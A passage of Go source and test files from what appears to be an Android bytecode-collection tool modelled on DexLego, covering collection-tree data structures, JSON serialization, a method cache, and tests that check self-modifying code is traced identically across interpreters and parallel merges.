	"path/filepath"
	"sort"
)

// Collection file names, mirroring Fig. 2 of the paper.
const (
	ClassDataFile    = "class_data.json"
	StaticValuesFile = "static_values.json"
	MethodDataFile   = "method_data.json"
	FieldDataFile    = "field_data.json"
	BytecodeFile     = "bytecode.json"
)

type classFileEntry struct {
	Descriptor  string   `json:"descriptor"`
	Superclass  string   `json:"superclass"`
	Interfaces  []string `json:"interfaces,omitempty"`
	SourceFile  string   `json:"sourceFile,omitempty"`
	AccessFlags uint32   `json:"accessFlags"`
}

type fieldFileEntry struct {
	Class    string        `json:"class"`
	Static   []FieldRecord `json:"static,omitempty"`
	Instance []FieldRecord `json:"instance,omitempty"`
}

type staticValueEntry struct {
	Class string       `json:"class"`
	Field string       `json:"field"`
	Value *ValueRecord `json:"value"`
}

type methodFileEntry struct {
	Class   string          `json:"class"`
	Shells  []MethodShell   `json:"shells"`
	Records []*MethodRecord `json:"records,omitempty"`
}

type bytecodeFileEntry struct {
	Method string      `json:"method"`
	Trees  []*TreeNode `json:"trees"`
}

// WriteFiles serializes the collection result as the paper's five
// collection files inside dir.
func (r *Result) WriteFiles(dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("collector: create dir: %w", err)
	}
	var classes []classFileEntry
	var fields []fieldFileEntry
	var statics []staticValueEntry
	var methods []methodFileEntry
	for _, c := range r.Classes {
		classes = append(classes, classFileEntry{
			Descriptor:  c.Descriptor,
			Superclass:  c.Superclass,
			Interfaces:  c.Interfaces,
			SourceFile:  c.SourceFile,
			AccessFlags: c.AccessFlags,
		})
		fe := fieldFileEntry{Class: c.Descriptor}
		for _, f := range c.StaticFields {
			meta := f
			meta.Value = nil
			fe.Static = append(fe.Static, meta)
			if f.Value != nil {
				statics = append(statics, staticValueEntry{
					Class: c.Descriptor, Field: f.Name, Value: f.Value,
				})
			}
		}
		fe.Instance = c.InstanceFields
		fields = append(fields, fe)
		me := methodFileEntry{Class: c.Descriptor, Shells: c.Methods}
		methods = append(methods, me)
	}
	var codes []bytecodeFileEntry
	keys := make([]string, 0, len(r.Methods))
	for k := range r.Methods {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	recordsByClass := make(map[string][]*MethodRecord)
	for _, k := range keys {
		rec := r.Methods[k]
		recordsByClass[rec.Class] = append(recordsByClass[rec.Class], rec)
		if len(rec.Trees) > 0 {
			codes = append(codes, bytecodeFileEntry{Method: k, Trees: rec.Trees})
		}
	}
	for i := range methods {
		methods[i].Records = recordsByClass[methods[i].Class]
	}
	write := func(name string, v any) error {
		data, err := json.MarshalIndent(v, "", " ")
		if err != nil {
			return fmt.Errorf("collector: marshal %s: %w", name, err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			return fmt.Errorf("collector: write %s: %w", name, err)
		}
		return nil
	}
	if err := write(ClassDataFile, classes); err != nil {
		return err
	}
	if err := write(FieldDataFile, fields); err != nil {
		return err
	}
	if err := write(StaticValuesFile, statics); err != nil {
		return err
	}
	if err := write(MethodDataFile, methods); err != nil {
		return err
	}
	return write(BytecodeFile, codes)
}

// ReadFiles reloads a Result from collection files previously written by
// WriteFiles.
func ReadFiles(dir string) (*Result, error) {
	read := func(name string, v any) error {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			return fmt.Errorf("collector: read %s: %w", name, err)
		}
		if err := json.Unmarshal(data, v); err != nil {
			return fmt.Errorf("collector: parse %s: %w", name, err)
		}
		return nil
	}
	var classes []classFileEntry
	var fields []fieldFileEntry
	var statics []staticValueEntry
	var methods []methodFileEntry
	var codes []bytecodeFileEntry
	if err := read(ClassDataFile, &classes); err != nil {
		return nil, err
	}
	if err := read(FieldDataFile, &fields); err != nil {
		return nil, err
	}
	if err := read(StaticValuesFile, &statics); err != nil {
		return nil, err
	}
	if err := read(MethodDataFile, &methods); err != nil {
		return nil, err
	}
	if err := read(BytecodeFile, &codes); err != nil {
		return nil, err
	}

	res := &Result{Methods: make(map[string]*MethodRecord)}
	fieldsByClass := make(map[string]fieldFileEntry, len(fields))
	for _, fe := range fields {
		fieldsByClass[fe.Class] = fe
	}
	staticVals := make(map[string]*ValueRecord, len(statics))
	for _, sv := range statics {
		staticVals[sv.Class+"->"+sv.Field] = sv.Value
	}
	shellsByClass := make(map[string][]MethodShell, len(methods))
	for _, me := range methods {
		shellsByClass[me.Class] = me.Shells
		for _, rec := range me.Records {
			rec.seen = make(map[string]bool)
			for _, tr := range rec.Trees {
				fixParents(tr, nil)
				rec.seen[tr.Fingerprint()] = true
			}
			res.Methods[rec.Key()] = rec
		}
	}
	for _, ce := range classes {
		cr := ClassRecord{
			Descriptor:  ce.Descriptor,
			Superclass:  ce.Superclass,
			Interfaces:  ce.Interfaces,
			SourceFile:  ce.SourceFile,
			AccessFlags: ce.AccessFlags,
			Methods:     shellsByClass[ce.Descriptor],
		}
		fe := fieldsByClass[ce.Descriptor]
		for _, f := range fe.Static {
			f.Value = staticVals[ce.Descriptor+"->"+f.Name]
			cr.StaticFields = append(cr.StaticFields, f)
		}
		cr.InstanceFields = fe.Instance
		res.Classes = append(res.Classes, cr)
	}
	// Bytecode trees were already attached through method records; codes is
	// retained for integrity checking.
	for _, be := range codes {
		if rec, ok := res.Methods[be.Method]; ok && len(rec.Trees) == 0 {
			rec.Trees = be.Trees
			for _, tr := range rec.Trees {
				fixParents(tr, nil)
			}
		}
	}
	return res, nil
}

func fixParents(n *TreeNode, parent *TreeNode) {
	n.Parent = parent
	for _, c := range n.Children {
		fixParents(c, n)
	}
}
