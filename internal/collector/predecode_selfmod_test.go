package collector_test

import (
	"encoding/json"
	"sync"
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dexgen"
)

// selfModProgram builds a method that overwrites its own units mid-execution:
// a three-pass loop whose accumulate instruction is rewritten by a native
// between passes, so every pass observes different bytecode at the recorded
// dex_pc and Algorithm 1 forks a divergence child.
func selfModProgram() (*dexgen.Program, map[string]art.NativeFunc) {
	p := dexgen.New()
	cls := p.Class("Lsm/P;", "")
	cls.Native("step", "V", "I")
	cls.Static("h", "I", nil, func(a *dexgen.Asm) {
		a.Const(3, 0) // i
		a.Const(2, 0) // acc
		a.Label("loop")
		a.Const(4, 3)
		a.If(bytecode.OpIfGe, 3, 4, "end")
		a.BinopLit8(bytecode.OpAddIntLit8, 2, 2, 1) // mutated between passes
		a.InvokeStatic("Lsm/P;", "step", "(I)V", 3)
		a.AddLit(3, 3, 1)
		a.Goto("loop")
		a.Label("end")
		a.Return(2)
	})
	natives := map[string]art.NativeFunc{
		"Lsm/P;->step(I)V": func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			iter := args[0].Int
			return art.Value{}, env.TamperMethod("Lsm/P;", "h", func(insns []uint16) []uint16 {
				for pc := 0; pc < len(insns); {
					in, w, err := bytecode.Decode(insns, pc)
					if err != nil {
						return nil
					}
					if in.Op == bytecode.OpAddIntLit8 && in.A == 2 && in.B == 2 {
						in.Lit = iter + 2
						units, err := bytecode.Encode(in)
						if err != nil {
							return nil
						}
						copy(insns[pc:], units)
						return nil
					}
					pc += w
				}
				return nil
			})
		},
	}
	return p, natives
}

// collectSelfMod runs the self-modifying workload on a fresh runtime with
// the given predecode mode and optional shared program cache, returning the
// collected trees of the mutated method (canonical JSON) and the number of
// predecode invalidations the runtime reported.
func collectSelfMod(t *testing.T, pkg *apk.APK, natives map[string]art.NativeFunc,
	predecode bool, cache *bytecode.ProgramCache) ([]byte, int) {
	t.Helper()
	rt := art.NewRuntime(art.DefaultPhone())
	rt.SetPredecode(predecode)
	if cache != nil {
		rt.SetProgramCache(cache)
	}
	for k, fn := range natives {
		rt.RegisterNative(k, fn)
	}
	col := collector.New()
	rt.AddHooks(col.Hooks())
	invalidations := 0
	rt.AddHooks(&art.Hooks{
		PredecodeInvalidate: func(m *art.Method, pc int) {
			if m.Key() == "Lsm/P;->h()I" {
				invalidations++
			}
		},
	})
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	r, err := rt.Call("Lsm/P;", "h", "()I", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if r.Int != 6 { // passes accumulate 1, 2, 3
		t.Fatalf("h() = %d, want 6", r.Int)
	}
	rec := col.Result().Methods["Lsm/P;->h()I"]
	if rec == nil {
		t.Fatal("no record for the self-modifying method")
	}
	trees, err := json.Marshal(rec.Trees)
	if err != nil {
		t.Fatal(err)
	}
	return trees, invalidations
}

// TestSelfModificationInvalidatesAndMatchesReference is the differential
// self-modification test of the predecoded interpreter: a method that
// overwrites its own units mid-execution must (1) drop its predecoded
// stream — observable as predecode_invalidate — and (2) fork the exact same
// collection tree the reference decode-per-step interpreter produces.
func TestSelfModificationInvalidatesAndMatchesReference(t *testing.T) {
	p, natives := selfModProgram()
	data, err := p.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	pkg := apk.New("sm", "1", "")
	pkg.SetDex(data)

	ref, refInval := collectSelfMod(t, pkg, natives, false, nil)
	if refInval != 0 {
		t.Fatalf("reference interpreter reported %d invalidations", refInval)
	}
	fast, inval := collectSelfMod(t, pkg, natives, true, nil)
	if inval == 0 {
		t.Error("self-modification never invalidated the predecoded stream")
	}
	if string(ref) != string(fast) {
		t.Errorf("collection trees diverge between interpreters:\n ref:  %s\n fast: %s", ref, fast)
	}
}

// TestSelfModificationSharedCacheParallel runs the same self-modifying
// workload on several runtimes concurrently, all resolving through ONE
// shared program cache — the worker-shard configuration of force execution
// (Options.Workers > 1). Every shard must observe its own invalidations and
// collect the reference tree; run under -race this also proves the cache
// sharing is sound while methods are being tampered.
func TestSelfModificationSharedCacheParallel(t *testing.T) {
	p, natives := selfModProgram()
	data, err := p.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	pkg := apk.New("sm", "1", "")
	pkg.SetDex(data)
	ref, _ := collectSelfMod(t, pkg, natives, false, nil)

	const shards = 4
	cache := bytecode.NewProgramCache()
	results := make([][]byte, shards)
	invals := make([]int, shards)
	var wg sync.WaitGroup
	for i := 0; i < shards; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			results[i], invals[i] = collectSelfMod(t, pkg, natives, true, cache)
		}(i)
	}
	wg.Wait()
	for i := 0; i < shards; i++ {
		if invals[i] == 0 {
			t.Errorf("shard %d saw no predecode invalidation", i)
		}
		if string(results[i]) != string(ref) {
			t.Errorf("shard %d trees diverge from the reference interpreter", i)
		}
	}
}
