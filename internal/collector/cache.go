package collector

// The incremental method cache stores one MethodRecord per entry — the
// method's canonicalized collection trees plus the shape metadata the
// reassembler needs — serialized as JSON in the same shape files.go uses
// for the on-disk collection files. Encode/Decode are the (de)serialization
// boundary; SpliceRecord grafts a decoded record into a partial Result in
// place of the execution that was skipped.

import (
	"encoding/json"
	"fmt"
)

// EncodeRecord serializes a method record for the method cache. Tree order
// is preserved exactly: on the plain path execution order is the canonical
// order, on the force path the record is canonicalized (fingerprint-sorted)
// before encoding, so in both cases a later splice reproduces the bytes the
// full path would have produced.
func EncodeRecord(rec *MethodRecord) ([]byte, error) {
	data, err := json.Marshal(rec)
	if err != nil {
		return nil, fmt.Errorf("collector: encode method record: %w", err)
	}
	return data, nil
}

// DecodeRecord deserializes a cached method record, rebuilding the
// collection-time state JSON does not carry: parent links and the
// fingerprint dedup index.
func DecodeRecord(data []byte) (*MethodRecord, error) {
	rec := &MethodRecord{}
	if err := json.Unmarshal(data, rec); err != nil {
		return nil, fmt.Errorf("collector: decode method record: %w", err)
	}
	rec.seen = make(map[string]bool, len(rec.Trees))
	for _, tr := range rec.Trees {
		fixParents(tr, nil)
		rec.seen[tr.Fingerprint()] = true
	}
	return rec, nil
}

// SpliceRecord grafts a cached record into r under its method key,
// reporting how many trees were adopted. On the incremental path skipped
// methods collect nothing, so the key is normally absent and the record is
// adopted wholesale; if a record already exists (defensive: a merge created
// a shell for it), the cached trees and metadata are unioned into it with
// the same dedup rules as Merge.
func (r *Result) SpliceRecord(rec *MethodRecord) int {
	if rec == nil {
		return 0
	}
	if _, ok := r.Methods[rec.Key()]; !ok {
		r.Methods[rec.Key()] = rec
		return len(rec.Trees)
	}
	st := r.Merge(&Result{Methods: map[string]*MethodRecord{rec.Key(): rec}})
	return st.TreesKept
}
