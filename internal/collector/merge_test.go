package collector_test

import (
	"encoding/json"
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/collector"
	"dexlego/internal/droidbench"
	"dexlego/internal/fuzzer"
)

// collectRun executes the sample once under col's hooks: run 0 drives the
// launch-and-click lifecycle, later runs use distinct fuzzer seeds so the
// corpus exercises different paths (and different tree fork/converge
// shapes) per run.
func collectRun(t *testing.T, s *droidbench.Sample, pkg *apk.APK, col *collector.Collector, run int) {
	t.Helper()
	rt := art.NewRuntime(art.DefaultPhone())
	for key, fn := range s.Natives() {
		rt.RegisterNative(key, fn)
	}
	s.InstallNatives(rt)
	rt.AddHooks(col.Hooks())
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	if run == 0 {
		activity, err := rt.LaunchActivity()
		if err != nil {
			t.Fatal(err)
		}
		for _, id := range rt.Clickables() {
			_ = rt.PerformClick(id)
		}
		_ = rt.FinishActivity(activity)
		return
	}
	_ = fuzzer.New(int64(run)).Drive(rt, nil) // app crashes do not abort collection
}

func canonicalJSON(t *testing.T, r *collector.Result) string {
	t.Helper()
	r.Canonicalize()
	data, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestMergeShardedEqualsSerial is the determinism spine of parallel
// force-execution: collecting N runs into one collector (serial) and
// collecting each run into its own shard then merging — under any shard
// count and any merge order — must produce the same canonical result.
func TestMergeShardedEqualsSerial(t *testing.T) {
	const runs = 8
	for _, name := range []string{"SelfModifying1", "SelfModifying2"} {
		t.Run(name, func(t *testing.T) {
			s := droidbench.ByName(name)
			if s == nil {
				t.Fatalf("sample %s missing", name)
			}
			pkg, err := s.Build()
			if err != nil {
				t.Fatal(err)
			}

			serial := collector.New()
			for run := 0; run < runs; run++ {
				collectRun(t, s, pkg, serial, run)
			}
			want := canonicalJSON(t, serial.Result())

			// One shard per run, then grouped k ways.
			shards := make([]*collector.Result, runs)
			total := 0
			for run := 0; run < runs; run++ {
				col := collector.New()
				collectRun(t, s, pkg, col, run)
				shards[run] = col.Result()
				for _, rec := range shards[run].Methods {
					total += len(rec.Trees)
				}
			}

			for _, k := range []int{1, 2, 4, 8} {
				// Each group merges its runs in order; groups then fold into
				// the final result — the same two-level shape as the engine's
				// iteration barrier.
				groups := make([]*collector.Result, k)
				for i := range groups {
					groups[i] = collector.New().Result()
				}
				for run := 0; run < runs; run++ {
					// Re-collect: Merge consumes its argument.
					col := collector.New()
					collectRun(t, s, pkg, col, run)
					groups[run%k].Merge(col.Result())
				}

				merged := collector.New().Result()
				offered, kept := 0, 0
				for _, g := range groups {
					st := merged.Merge(g)
					offered += st.TreesOffered
					kept += st.TreesKept
				}
				if got := canonicalJSON(t, merged); got != want {
					t.Errorf("k=%d: merged result diverges from serial collection", k)
				}
				if kept > offered {
					t.Errorf("k=%d: merge stats kept %d of %d offered", k, kept, offered)
				}

				// Reversed merge order must not change the outcome.
				rev := collector.New().Result()
				for i := len(groups) - 1; i >= 0; i-- {
					// Groups were consumed above; rebuild them.
					g := collector.New().Result()
					for run := i; run < runs; run += k {
						col := collector.New()
						collectRun(t, s, pkg, col, run)
						g.Merge(col.Result())
					}
					rev.Merge(g)
				}
				if got := canonicalJSON(t, rev); got != want {
					t.Errorf("k=%d: reversed merge order diverges from serial collection", k)
				}
			}

			// Merging every per-run shard directly (k = runs, no grouping)
			// keeps exactly the unique trees.
			flat := collector.New().Result()
			kept := 0
			for _, sh := range shards {
				kept += flat.Merge(sh).TreesKept
			}
			uniq := 0
			for _, rec := range flat.Methods {
				uniq += len(rec.Trees)
			}
			if kept != uniq {
				t.Errorf("kept %d trees but result holds %d", kept, uniq)
			}
			if got := canonicalJSON(t, flat); got != want {
				t.Error("flat merge diverges from serial collection")
			}
		})
	}
}

// TestMergeSelfAndNil pins the degenerate cases: merging nil is a no-op and
// re-merging an already-adopted shard dedups everything.
func TestMergeSelfAndNil(t *testing.T) {
	s := droidbench.ByName("SelfModifying1")
	pkg, err := s.Build()
	if err != nil {
		t.Fatal(err)
	}
	col := collector.New()
	collectRun(t, s, pkg, col, 0)

	dst := collector.New().Result()
	if st := dst.Merge(nil); st != (collector.MergeStats{}) {
		t.Errorf("nil merge produced stats %+v", st)
	}
	first := dst.Merge(col.Result())
	if first.TreesKept == 0 || first.TreesKept != first.TreesOffered {
		t.Errorf("first merge into empty result: %+v", first)
	}

	again := collector.New()
	collectRun(t, s, pkg, again, 0)
	second := dst.Merge(again.Result())
	if second.TreesKept != 0 {
		t.Errorf("identical run re-merge kept %d trees, want 0 (all dedup hits)", second.TreesKept)
	}
	if second.Classes != 0 {
		t.Errorf("identical run re-merge adopted %d classes, want 0", second.Classes)
	}
}
