// Package collector implements DexLego's just-in-time collection: the
// instruction-level tracing of Algorithm 1 with the paper's collection-tree
// model (Fig. 3), plus DEX metadata collection at class initialization.
//
// A Collector attaches to the runtime through art.Hooks. Per execution of a
// method it maintains a tree of TreeNodes; re-executing the same instruction
// at the same dex_pc is deduplicated through the node's Instruction Index
// Map, a *different* instruction at a recorded dex_pc forks a child node (a
// layer of self-modifying code), and re-encountering a parent instruction
// converges back. Constant-pool operands are resolved to symbolic form at
// collection time so the offline reassembler is independent of the original
// DEX's index space.
package collector

import (
	"encoding/binary"
	"sort"
	"sync/atomic"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/obs"
)

// Symbol is a constant-pool operand resolved at collection time.
type Symbol struct {
	Kind   bytecode.IndexKind `json:"kind"`
	Str    string             `json:"str,omitempty"`
	Type   string             `json:"type,omitempty"`
	Field  dex.FieldRef       `json:"field,omitempty"`
	Method dex.MethodRef      `json:"method,omitempty"`
}

// Entry is one collected instruction: its dex_pc, the decoded instruction,
// and its resolved constant-pool operand (if any).
type Entry struct {
	DexPC int           `json:"pc"`
	Inst  bytecode.Inst `json:"inst"`
	Sym   *Symbol       `json:"sym,omitempty"`
}

// TreeNode is a node of the collection tree (Fig. 3): the Instruction List
// (IL) in first-execution order, the Instruction Index Map (IIM) from
// dex_pc to IL index, the divergence bounds, and child links.
//
// During collection the IIM is kept as the dense pcIdx array instead of the
// map: dex_pcs are small code-unit offsets, so an array lookup replaces a
// map hash on the per-instruction hot path. The map form is materialized by
// buildIIM only when a unique tree is published into a MethodRecord —
// duplicate executions (the steady state of loops and repeated calls) never
// pay for map construction at all.
type TreeNode struct {
	IL       []Entry     `json:"il"`
	IIM      map[int]int `json:"iim"`
	SmStart  int         `json:"smStart"` // divergence dex_pc; -1 for the root
	SmEnd    int         `json:"smEnd"`   // convergence dex_pc; -1 if none
	Children []*TreeNode `json:"children,omitempty"`
	Parent   *TreeNode   `json:"-"`

	// pcIdx[pc] is the IL index of the entry collected at dex_pc pc, or -1.
	// Collection-time only; published trees carry the IIM map instead.
	pcIdx []int32
}

func newNode(parent *TreeNode, smStart int) *TreeNode {
	return &TreeNode{
		SmStart: smStart,
		SmEnd:   -1,
		Parent:  parent,
	}
}

// ilIndex is the collection-time IIM lookup: the IL index of the entry at
// dex_pc pc, if one was collected in this node.
func (n *TreeNode) ilIndex(pc int) (int, bool) {
	if pc < 0 || pc >= len(n.pcIdx) || n.pcIdx[pc] < 0 {
		return 0, false
	}
	return int(n.pcIdx[pc]), true
}

// push records an instruction in the node (Algorithm 1 lines 29-31).
func (n *TreeNode) push(e Entry) {
	if e.DexPC >= len(n.pcIdx) {
		n.growPCIdx(e.DexPC)
	}
	n.pcIdx[e.DexPC] = int32(len(n.IL))
	n.IL = append(n.IL, e)
}

// growPCIdx extends pcIdx to cover pc, filling new slots with -1. Growth
// doubles so a method walked front to back reallocates O(log n) times, and
// recycled nodes keep their backing array.
func (n *TreeNode) growPCIdx(pc int) {
	old := len(n.pcIdx)
	if cap(n.pcIdx) > pc {
		n.pcIdx = n.pcIdx[:pc+1]
	} else {
		newCap := pc + 1
		if d := 2 * cap(n.pcIdx); d > newCap {
			newCap = d
		}
		grown := make([]int32, pc+1, newCap)
		copy(grown, n.pcIdx)
		n.pcIdx = grown
	}
	for i := old; i < len(n.pcIdx); i++ {
		n.pcIdx[i] = -1
	}
}

// buildIIM materializes the published (map) form of the IIM for the subtree.
// Within a node each dex_pc appears at most once in the IL (a re-executed pc
// either deduplicates or forks a child), so the IL walk is exact.
func buildIIM(n *TreeNode) {
	n.IIM = make(map[int]int, len(n.IL))
	for i := range n.IL {
		n.IIM[n.IL[i].DexPC] = i
	}
	for _, c := range n.Children {
		buildIIM(c)
	}
}

// Size returns the total number of instructions in the subtree.
func (n *TreeNode) Size() int {
	total := len(n.IL)
	for _, c := range n.Children {
		total += c.Size()
	}
	return total
}

// Depth returns the number of self-modification layers below this node.
func (n *TreeNode) Depth() int {
	max := 0
	for _, c := range n.Children {
		if d := c.Depth(); d > max {
			max = d
		}
	}
	return max + 1
}

// fingerprint canonically identifies a tree's contents for deduplication.
// The encoding is an unambiguous length-prefixed binary form: it exists only
// as a map key, so it is built by appending into a reusable buffer instead
// of formatting — the fingerprint of every discarded duplicate tree then
// costs zero allocations (see methodExited).
func (n *TreeNode) fingerprint(buf []byte) []byte {
	buf = append(buf, 'N')
	buf = appendVarint(buf, int64(n.SmStart))
	buf = appendVarint(buf, int64(n.SmEnd))
	buf = appendVarint(buf, int64(len(n.IL)))
	for i := range n.IL {
		e := &n.IL[i]
		buf = appendVarint(buf, int64(e.DexPC))
		buf = append(buf, byte(e.Inst.Op))
		buf = appendVarint(buf, int64(e.Inst.A))
		buf = appendVarint(buf, int64(e.Inst.B))
		buf = appendVarint(buf, int64(e.Inst.C))
		buf = appendVarint(buf, e.Inst.Lit)
		buf = appendVarint(buf, int64(e.Inst.Off))
		buf = appendVarint(buf, int64(len(e.Inst.Args)))
		for _, a := range e.Inst.Args {
			buf = appendVarint(buf, int64(a))
		}
		buf = appendSym(buf, e.Sym)
	}
	kids := n.Children
	if len(kids) > 1 {
		// Child order is execution order; identity must not depend on it.
		kids = append([]*TreeNode(nil), kids...)
		sort.Slice(kids, func(i, j int) bool { return kids[i].SmStart < kids[j].SmStart })
	}
	for _, c := range kids {
		buf = c.fingerprint(buf)
	}
	return buf
}

func appendVarint(buf []byte, v int64) []byte {
	return binary.AppendVarint(buf, v)
}

func appendStr(buf []byte, s string) []byte {
	buf = appendVarint(buf, int64(len(s)))
	return append(buf, s...)
}

func appendSym(buf []byte, s *Symbol) []byte {
	if s == nil {
		return append(buf, 0)
	}
	buf = append(buf, 1+byte(s.Kind))
	switch s.Kind {
	case bytecode.IndexString:
		buf = appendStr(buf, s.Str)
	case bytecode.IndexType:
		buf = appendStr(buf, s.Type)
	case bytecode.IndexField:
		buf = appendStr(buf, s.Field.Class)
		buf = appendStr(buf, s.Field.Name)
		buf = appendStr(buf, s.Field.Type)
	case bytecode.IndexMethod:
		buf = appendStr(buf, s.Method.Class)
		buf = appendStr(buf, s.Method.Name)
		buf = appendStr(buf, s.Method.Signature)
	}
	return buf
}

// Fingerprint returns the canonical identity of the tree.
func (n *TreeNode) Fingerprint() string {
	return string(n.fingerprint(nil))
}

// MethodRecord aggregates everything collected about one method.
type MethodRecord struct {
	Class         string `json:"class"`
	Name          string `json:"name"`
	Signature     string `json:"signature"`
	AccessFlags   uint32 `json:"accessFlags"`
	Virtual       bool   `json:"virtual"`
	RegistersSize int    `json:"registersSize"`
	InsSize       int    `json:"insSize"`

	// Trees holds the unique collection trees, one per distinct execution.
	Trees []*TreeNode `json:"trees,omitempty"`
	// Tries is the method's try/catch table with original dex_pc anchors and
	// exception types resolved to descriptors.
	Tries []TryRecord `json:"tries,omitempty"`
	// ReflTargets maps a call-site dex_pc of Method.invoke to the resolved
	// direct-call targets observed there.
	ReflTargets map[int][]ReflTarget `json:"reflTargets,omitempty"`
	// Written records that the runtime observed a write into this method's
	// live unit array (art.Hooks.CodeWritten). A written method's trees are
	// a function of runtime state, not of its static body, so the record is
	// never admitted into the incremental method cache.
	Written bool `json:"written,omitempty"`

	seen map[string]bool
}

// Key returns the canonical method key.
func (r *MethodRecord) Key() string { return r.Class + "->" + r.Name + r.Signature }

// Executed reports whether any bytecode was collected for the method.
func (r *MethodRecord) Executed() bool { return len(r.Trees) > 0 }

// Cacheable reports whether the record may be served from the incremental
// method cache: it must hold at least one tree, the method's code must
// never have been written at runtime, and no tree may carry divergence
// children (a forked tree proves self-modification even when the write
// itself was not hooked — e.g. silent slice swaps with predecode off).
func (r *MethodRecord) Cacheable() bool {
	if r.Written || len(r.Trees) == 0 {
		return false
	}
	for _, t := range r.Trees {
		if len(t.Children) > 0 {
			return false
		}
	}
	return true
}

// TryRecord is a try/catch range anchored at original dex_pcs.
type TryRecord struct {
	StartPC    int        `json:"startPC"`
	Count      int        `json:"count"`
	Handlers   []TryCatch `json:"handlers,omitempty"`
	CatchAllPC int        `json:"catchAllPC"` // -1 when absent
}

// TryCatch is one typed handler of a TryRecord.
type TryCatch struct {
	Type      string `json:"type"`
	HandlerPC int    `json:"handlerPC"`
}

// ValueRecord serializes a static field value.
type ValueRecord struct {
	Kind string `json:"kind"` // "int", "string", "null", "bool"
	Int  int64  `json:"int,omitempty"`
	Str  string `json:"str,omitempty"`
}

// FieldRecord is collected field metadata.
type FieldRecord struct {
	Name        string       `json:"name"`
	Type        string       `json:"type"`
	AccessFlags uint32       `json:"accessFlags"`
	Value       *ValueRecord `json:"value,omitempty"`
}

// MethodShell is a declared method observed at class initialization.
type MethodShell struct {
	Name        string `json:"name"`
	Signature   string `json:"signature"`
	AccessFlags uint32 `json:"accessFlags"`
	Virtual     bool   `json:"virtual"`
	Native      bool   `json:"native"`
}

// ClassRecord is collected class metadata.
type ClassRecord struct {
	Descriptor     string        `json:"descriptor"`
	Superclass     string        `json:"superclass"`
	Interfaces     []string      `json:"interfaces,omitempty"`
	SourceFile     string        `json:"sourceFile,omitempty"`
	AccessFlags    uint32        `json:"accessFlags"`
	StaticFields   []FieldRecord `json:"staticFields,omitempty"`
	InstanceFields []FieldRecord `json:"instanceFields,omitempty"`
	Methods        []MethodShell `json:"methods,omitempty"`
}

// Result is the complete collection output, the in-memory form of the
// paper's five collection files.
type Result struct {
	Classes []ClassRecord            `json:"classes"`
	Methods map[string]*MethodRecord `json:"methods"`
}

// Method returns the record for a method key, creating it if needed.
func (r *Result) method(m *art.Method) *MethodRecord {
	key := m.Key()
	if rec, ok := r.Methods[key]; ok {
		return rec
	}
	rec := &MethodRecord{
		Class:         m.Class.Descriptor,
		Name:          m.Name,
		Signature:     m.Signature,
		AccessFlags:   m.AccessFlags,
		Virtual:       m.Virtual,
		RegistersSize: m.RegistersSize,
		InsSize:       m.InsSize,
		seen:          make(map[string]bool),
	}
	r.Methods[key] = rec
	return rec
}

// Class returns the recorded class metadata, or nil.
func (r *Result) Class(descriptor string) *ClassRecord {
	for i := range r.Classes {
		if r.Classes[i].Descriptor == descriptor {
			return &r.Classes[i]
		}
	}
	return nil
}

// ExecutedInstructionCount sums unique collected instructions over all
// methods (the paper's dump-size proxy).
func (r *Result) ExecutedInstructionCount() int {
	total := 0
	for _, rec := range r.Methods {
		for _, tr := range rec.Trees {
			total += tr.Size()
		}
	}
	return total
}

// methodExec is one in-flight execution of one method.
type methodExec struct {
	method *art.Method
	root   *TreeNode
	cur    *TreeNode
}

// Collector performs JIT collection over an instrumented runtime.
//
// Ownership contract: a Collector belongs to exactly one runtime at a
// time. Its hooks mutate the collection tree and the execution stack
// without locks, so attaching the same Collector to two concurrently
// executing runtimes is a data race. Hooks are synchronous and never
// nested, which lets a cheap atomic guard enforce the contract: a hook
// entered while another is in flight panics instead of silently
// corrupting the collection result. Batch pipelines (RevealBatch)
// therefore construct one Collector per job.
type Collector struct {
	res   *Result
	stack []*methodExec
	hooks *art.Hooks
	busy  atomic.Int32
	span  *obs.Span

	// Incremental-reveal skip state (SetSkip). Skipped methods are served
	// from the method cache: they push no execution frame and collect no
	// trees, but the collector records which of them actually ran (touched)
	// so only those get their cached trees spliced, and which were written
	// at runtime (violated) so the reveal can fall back to a full run.
	skip     map[string]bool
	touched  map[string]bool
	violated map[string]bool

	// Scratch reused across hook invocations. The single-runtime ownership
	// contract above makes unsynchronized reuse safe: hooks never overlap.
	fpBuf     []byte        // fingerprint scratch (methodExited)
	freeNodes []*TreeNode   // recycled nodes of discarded duplicate trees
	freeExecs []*methodExec // recycled execution frames
}

// newNode returns a fresh or recycled tree node.
func (c *Collector) newNode(parent *TreeNode, smStart int) *TreeNode {
	if n := len(c.freeNodes); n > 0 {
		nd := c.freeNodes[n-1]
		c.freeNodes = c.freeNodes[:n-1]
		nd.SmStart = smStart
		nd.Parent = parent
		return nd
	}
	return newNode(parent, smStart)
}

// recycleTree returns a discarded (duplicate) tree's nodes to the freelist.
// Only trees that were never published into a MethodRecord may be recycled.
func (c *Collector) recycleTree(n *TreeNode) {
	for _, ch := range n.Children {
		c.recycleTree(ch)
	}
	// Reset only the pcIdx slots the IL actually touched: O(collected), not
	// O(method size).
	for i := range n.IL {
		if pc := n.IL[i].DexPC; pc < len(n.pcIdx) {
			n.pcIdx[pc] = -1
		}
	}
	n.IL = n.IL[:0]
	n.Children = n.Children[:0]
	n.SmStart = -1
	n.SmEnd = -1
	n.Parent = nil
	c.freeNodes = append(c.freeNodes, n)
}

// SetSpan attributes the collector's trace events (tree forks, convergences,
// recorded methods, guard violations) to s — typically the per-app reveal
